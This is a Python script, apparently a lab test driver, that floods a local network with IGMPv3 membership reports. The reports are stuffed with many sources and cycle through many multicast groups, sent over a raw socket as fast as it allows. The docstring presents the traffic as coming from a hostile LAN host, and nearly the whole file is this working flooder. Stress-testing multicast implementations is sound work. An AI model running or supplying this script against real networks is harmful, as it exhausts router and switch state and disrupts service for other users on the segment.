"""A source-heavy IGMPv3 flood, as one hostile LAN host sends it (python3 standard library only).

Usage: v3_flood.py SRC_ADDR COUNT SECONDS SOURCES GROUPS [include|exclude]

Sends up to COUNT IGMPv3 membership reports from SRC_ADDR (an address of this namespace) to
224.0.0.22 within at most SECONDS, as fast as the socket takes them: each holds one
MODE_IS_INCLUDE (or MODE_IS_EXCLUDE) record with SOURCES sources (203.0.113.1, ...; at most
254) for one of GROUPS groups 239.a.b.c (239.1.0.1, 239.1.0.2, ...), taken in turn. Router
Alert set, TTL 1. Prints "sent N in S s" at the end.
"""
import socket
import struct
import sys
import time


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return (~s) & 0xFFFF


def group_address(g):
    a = g // 250
    return "239.%d.%d.%d" % (1 + a // 250, a % 250, 1 + g % 250)


def report(group, nsrc, mode):
    sources = b"".join(socket.inet_aton("203.0.113.%d" % (1 + i)) for i in range(nsrc))
    record = struct.pack("!BBH4s", mode, 0, nsrc, socket.inet_aton(group)) + sources
    msg = bytearray(struct.pack("!BBHHH", 0x22, 0, 0, 0, 1) + record)
    struct.pack_into("!H", msg, 2, csum(bytes(msg)))
    return bytes(msg)


def main():
    src, count, seconds, nsrc, ngroups = sys.argv[1:6]
    count, seconds, nsrc, ngroups = int(count), float(seconds), int(nsrc), int(ngroups)
    mode = 2 if len(sys.argv) > 6 and sys.argv[6] == "exclude" else 1
    nsrc = max(0, min(nsrc, 254))
    packets = [report(group_address(g), nsrc, mode) for g in range(ngroups)]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_IGMP)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x94\x04\x00\x00")
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(src))
    dst = ("224.0.0.22", 0)
    start = time.monotonic()
    end = start + seconds
    sent = 0
    n = len(packets)
    while sent < count:
        for _ in range(256):
            s.sendto(packets[sent % n], dst)
            sent += 1
        if time.monotonic() >= end:
            break
    print("sent %d in %.3f s" % (sent, time.monotonic() - start), flush=True)


main()
